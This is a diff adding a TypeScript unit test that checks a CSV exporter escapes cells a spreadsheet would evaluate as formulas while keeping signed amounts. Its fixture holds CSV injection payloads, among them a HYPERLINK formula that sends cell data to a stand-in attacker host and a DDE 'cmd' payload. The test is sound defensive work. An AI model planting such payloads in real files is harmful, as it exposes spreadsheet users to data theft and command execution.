@@ -81,6 +81,25 @@ describe('exporting a filtered list', () => {
     ])
   })
 
+  it('writes cells a spreadsheet would run as formulas as plain text, and keeps signed amounts', async () => {
+    type Imported = { buyer: string; title: string; sku: string; note: string; amount: string }
+    const hostile: Imported = {
+      buyer: '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+      title: "-2+3+cmd|' /C calc'!A0",
+      sku: '@SUM(1+1)',
+      note: '\t=1+1',
+      amount: '-12.50',
+    }
+    const keys = Object.keys(hostile) as (keyof Imported)[]
+    const csv = await toCsv(
+      [hostile, { ...hostile, buyer: '+86 138', title: '\r=cmd', sku: 'SKU-1', note: 'ok', amount: '+3' }],
+      keys.map((key) => ({ header: key, value: (row: Imported) => row[key] })),
+    )
+    const [, first, second] = Papa.parse<string[]>(csv.slice(1), { skipEmptyLines: true }).data
+    expect(first).toEqual([`'${hostile.buyer}`, `'${hostile.title}`, "'@SUM(1+1)", "'\t=1+1", '-12.50'])
+    expect(second).toEqual(["'+86 138", "'\r=cmd", 'SKU-1', 'ok', '+3'])
+  })
+
   it('writes an XLSX workbook with the same cells', async () => {
     const buffer = await toXlsx(ROWS.slice(0, 2), columns, 'orders')
     const { default: ExcelJS } = await import('exceljs')
